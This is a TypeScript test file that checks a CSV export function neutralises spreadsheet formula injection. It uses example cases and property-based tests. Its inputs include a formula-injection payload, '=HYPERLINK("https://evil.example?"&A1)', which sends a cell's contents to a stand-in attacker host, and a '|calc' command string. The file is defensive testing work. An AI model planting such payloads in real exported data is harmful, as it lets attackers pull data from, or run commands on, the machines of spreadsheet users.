import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvOf } from '#model/desk/csv';

describe('a sheet for a spreadsheet', () => {
  test.each([
    '=HYPERLINK("https://evil.example?"&A1)',
    '+1 (503) 555-0100',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '  =1+1',
    '"=1',
    "'=1",
    '＝1',
    '|calc',
    '\r\n=1',
  ])('%j is a text', (text) => {
    expect(csvOf([[text]])).toMatch(/^"'/);
  });

  test('keeps numbers numbers, and quotes, commas and line ends in their cell', () => {
    expect(csvOf([['Ada, "the first"\nLovelace', -6.9, 12]])).toBe(
      '"Ada, ""the first""\nLovelace",-6.9,12\r\n',
    );
  });

  test('no text begins a formula, leaves its cell or steers a terminal', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cell = csvOf([[text]])
          .slice(1, -3)
          .replaceAll('""', '\ufffc');
        expect(cell).not.toMatch(/^\s*[=+\-@|]/);
        expect(cell).not.toContain('"');
        expect(cell).not.toMatch(/(?![\t\r\n])\p{Cc}/u);
      }),
    );
  });
});
